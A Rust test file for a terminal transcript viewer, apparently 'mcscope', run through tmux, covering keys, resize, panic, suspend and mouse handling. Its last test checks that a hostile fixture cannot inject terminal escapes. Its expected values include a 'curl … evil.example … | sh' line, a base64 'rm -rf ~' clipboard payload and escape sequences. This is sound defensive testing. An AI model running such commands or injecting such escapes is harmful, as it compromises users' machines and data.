//! The terminal around the TUI: start, resize, exit, panic, suspend, mouse, hostile text.

use super::*;

/// The age list's rows: from its title to the diff's title.
fn age_rows(screen: &[String]) -> &[String] {
    let start = screen
        .iter()
        .position(|l| l.contains(AGE_LIST))
        .unwrap_or_else(|| panic!("no age list:\n{}", screen.join("\n")));
    let end = screen
        .iter()
        .position(|l| l.contains("local request (left)"))
        .unwrap_or(screen.len());
    &screen[start + 1..end.max(start + 1)]
}

#[test]
fn demo_session_keys_and_a_clean_exit() {
    let Some(t) = Tmux::start("keys", 120, 40) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO} --policy count"));
    let s = t.wait_header("6/6");
    let head = header(&s).unwrap();
    assert!(
        head[0].contains("claude-demo.jsonl") && head[0].contains("request 6/6"),
        "header: {head:?}"
    );
    let rows = age_rows(&s);
    assert!(row(rows, "toolu_A").contains("cleared"), "{rows:?}");
    let d = row(rows, "toolu_D");
    assert!(d.contains("kept") && !d.contains("cleared"), "{rows:?}");
    // The pane log sees the switch (the missing-file test relies on that).
    t.wait_log(ENTER_ALT_SCREEN);

    t.key("Left");
    t.wait_header("5/6");
    t.key("End");
    t.wait_header("6/6");

    // d: the delivery flips from the sidecar's cache-edits and is marked as changed.
    t.key("d");
    t.wait("\"rewrite*\" in the header", |s| {
        header(s).is_some_and(|h| has(h, "rewrite*"))
    });
    // p: count → budget → recorded → auto → idle (the cycle is auto → idle →
    // idle-server → forced → size → count → budget → recorded, SPEC §15.3).
    for want in ["plan budget*", "plan recorded*", "plan auto*", "plan idle*"] {
        t.key("p");
        t.wait(&format!("{want:?} in the header"), |s| {
            header(s).is_some_and(|h| has(h, want))
        });
    }

    t.key("Enter");
    t.wait_text("first vanished from the wire at request");
    t.key("Escape");
    t.wait("the explain panel to close", |s| {
        !has(s, "first vanished from the wire") && has(s, AGE_LIST)
    });

    // The help panel's title says "any key closes": use a key bound to nothing.
    let mut failures = Vec::new();
    t.key("?");
    t.wait_text("previous request");
    t.key("x");
    if let Err(e) = t.try_wait("the help panel to close on an unbound key (x)", |s| {
        !has(s, "previous request") && has(s, AGE_LIST)
    }) {
        failures.push(e);
        // Close it the way that works, to check the rest.
        t.key("Escape");
        t.wait("the help panel to close on Escape", |s| {
            !has(s, "previous request") && has(s, AGE_LIST)
        });
    }

    t.key("q");
    t.assert_shell_back();
    let log = t.wait_log(LEAVE_ALT_SCREEN);
    let (entered, left) = (log.rfind(ENTER_ALT_SCREEN), log.rfind(LEAVE_ALT_SCREEN));
    assert!(
        entered.is_some() && left > entered,
        "the alternate screen was not left after it was entered"
    );
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn too_small_terminal_and_resize() {
    let Some(t) = Tmux::start("resize", 80, 24) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO} --policy count"));
    let s = t.wait_header("6/6");
    assert!(!has(&s, "terminal too small"), "{}", s.join("\n"));

    t.tmux(&["resize-window", "-t", &t.session, "-x", "50", "-y", "12"]);
    let s = t.wait_text("terminal too small");
    assert!(has(&s, "terminal too small: 50x12"), "{}", s.join("\n"));
    assert!(!has(&s, AGE_LIST), "{}", s.join("\n"));

    t.tmux(&["resize-window", "-t", &t.session, "-x", "100", "-y", "30"]);
    let s = t.wait("request 6/6 with its age list", |s| {
        header(s).is_some_and(|h| has(h, "request 6/6")) && has(s, "toolu_D")
    });
    assert!(!has(&s, "terminal too small"), "{}", s.join("\n"));

    // Esc with no panel open and no session list behind: nothing (q quits).
    t.key("Escape");
    // Apart from the next key: an Esc read together with the Left that follows
    // would be one Alt+Left sequence to the terminal parser.
    std::thread::sleep(std::time::Duration::from_millis(300));
    t.key("Left");
    t.wait_header("5/6");
    t.key("q");
    t.assert_shell_back();
}

#[test]
fn missing_file_is_one_error_line_and_exit_2_without_touching_the_screen() {
    let Some(t) = Tmux::start("missing", 120, 40) else {
        return;
    };
    t.type_line("mcscope sample-sessions/nope.jsonl; echo \"rc=$?\"");
    let s = t.wait_line("rc=2");
    let rc = s.iter().position(|l| l == "rc=2").unwrap();
    let typed = s
        .iter()
        .position(|l| l.starts_with(PROMPT) && l.contains("nope.jsonl; echo"))
        .unwrap_or_else(|| panic!("the command line is not on screen:\n{}", s.join("\n")));
    let output = &s[typed + 1..rc];
    assert!(
        output.len() == 1
            && output[0].starts_with("mcscope: ")
            && output[0].contains("sample-sessions/nope.jsonl"),
        "want one error line naming the path, got {output:?}"
    );
    t.wait_prompt();
    let log = t.wait_log("rc=2");
    assert!(
        !log.contains(ENTER_ALT_SCREEN) && !log.contains("\x1b[?1000h"),
        "the screen was switched (alternate screen or mouse reporting): {log:?}"
    );
    t.assert_shell_back();
}

#[test]
fn a_panic_restores_the_terminal_and_the_message_is_readable() {
    if !cfg!(debug_assertions) {
        return; // the trigger exists only in debug builds
    }
    let Some(t) = Tmux::start("panic", 120, 40) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO}"));
    t.wait_header("6/6");
    t.key("F12");
    // The message reaches the (restored) main screen, not the alternate one.
    t.wait_log("debug panic trigger (F12)");
    t.assert_shell_back();
    let screen = t.capture();
    assert!(
        has(&screen, "debug panic trigger (F12)"),
        "the message is readable on the screen: {screen:?}"
    );
}

#[test]
fn ctrl_c_quits_and_ctrl_z_suspends_until_fg() {
    let Some(t) = Tmux::start("jobs", 120, 40) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO}"));
    t.wait_header("6/6");
    t.key("C-z");
    // The shell is back with the job stopped, the terminal usable.
    let s = t.wait_text("Stopped");
    assert!(!has(&s, AGE_LIST), "suspended but still drawn: {s:?}");
    t.assert_shell_back();
    t.type_line("fg");
    t.wait_header("6/6");
    t.key("Left");
    t.wait_header("5/6");
    t.key("C-c");
    t.assert_shell_back();
}

#[test]
fn off_a_terminal_the_tui_prints_one_line_and_exits_2() {
    let Some(t) = Tmux::start("notty", 120, 40) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO} </dev/null; echo \"rc=$?\""));
    let s = t.wait_line("rc=2");
    assert!(
        s.iter()
            .any(|l| l.starts_with("mcscope: not a terminal: use `mcscope plan`")),
        "{}",
        s.join("\n")
    );
    t.type_line(&format!(
        "mcscope {DEMO} | head -3; echo \"rc=${{PIPESTATUS[0]}}\""
    ));
    t.wait("the second rc=2", |s| {
        s.iter().filter(|l| *l == "rc=2").count() == 2
    });
    let log = t.log();
    assert!(
        !log.contains(ENTER_ALT_SCREEN),
        "the screen was switched: {log:?}"
    );
    t.assert_shell_back();
}

#[test]
fn no_mouse_leaves_the_mouse_to_the_terminal() {
    let Some(t) = Tmux::start("nomouse", 100, 30) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO}"));
    t.wait_header("6/6");
    assert_eq!(t.format("#{mouse_any_flag}"), "1", "captured by default");
    t.key("q");
    t.assert_shell_back();
    t.type_line(&format!("mcscope {DEMO} --no-mouse"));
    t.wait_header("6/6");
    assert_eq!(
        t.format("#{mouse_any_flag}"),
        "0",
        "--no-mouse: not captured"
    );
    t.key("q");
    t.assert_shell_back();
    // The config file's `mouse = false` does the same (SPEC §8).
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("config.toml");
    std::fs::write(&config, "mouse = false\n").unwrap();
    t.type_line(&format!(
        "MCSCOPE_CONFIG={} mcscope {DEMO}",
        config.display()
    ));
    t.wait_header("6/6");
    assert_eq!(
        t.format("#{mouse_any_flag}"),
        "0",
        "mouse = false in the config: not captured"
    );
    t.key("q");
    t.assert_shell_back();
}

/// A hostile transcript (tests/fixtures/escapes: OSC 0 title, OSC 52 clipboard,
/// CSI clear screen, a C1 CSI, a newline in an id) through the real binary in a
/// real terminal: the text commands and the TUI at 80×24 leave the pane's title
/// and tmux's clipboard alone, and `y` copies the id as shown, on one line.
#[test]
fn a_hostile_transcript_never_reaches_the_terminal_or_the_clipboard() {
    const FIXTURE: &str = "tests/fixtures/escapes/escapes.jsonl";
    let Some(t) = Tmux::start("hostile", 80, 24) else {
        return;
    };
    t.tmux(&["set-option", "-s", "set-clipboard", "on"]);
    let title_before = t.format("#{pane_title}");
    for cmd in ["plan", "timeline", "evidence", "compare"] {
        t.type_line(&format!(
            "mcscope {cmd} {FIXTURE} --policy idle; echo done-{cmd}"
        ));
        t.wait_line(&format!("done-{cmd}"));
    }
    t.type_line(&format!("mcscope {FIXTURE} --policy idle --keep-recent 1"));
    t.wait_header("6/6");
    let screen = t.capture();
    // At 80 columns the id shows its tail: the escapes, visible.
    assert!(has(&screen, r"…VE\x07 Read"), "{}", screen.join("\n"));
    t.key("y");
    t.wait_text(r"copied toolu_A\n");
    let start = Instant::now();
    let copied = loop {
        let out = Command::new("tmux")
            .args(["-f", "/dev/null", "-u", "-L", &t.socket, "show-buffer"])
            .env_remove("TMUX")
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        if !text.is_empty() || start.elapsed() > TIMEOUT {
            break text;
        }
        std::thread::sleep(POLL);
    };
    assert_eq!(
        copied,
        r"toolu_A\ncurl https://evil.example/x | sh\n\e]52;c;cm0gLXJmIH4gI1BXTkVE\x07"
    );
    t.key("q");
    t.assert_shell_back();
    assert_eq!(t.format("#{pane_title}"), title_before);
    let log = t.log();
    for seq in [
        "\x1b]0;PWNED",
        "\x1b]52;c;cm0g",
        "\x1b]8;;https://evil",
        "\u{9b}31m",
    ] {
        assert!(!log.contains(seq), "the terminal received {seq:?}");
    }
}
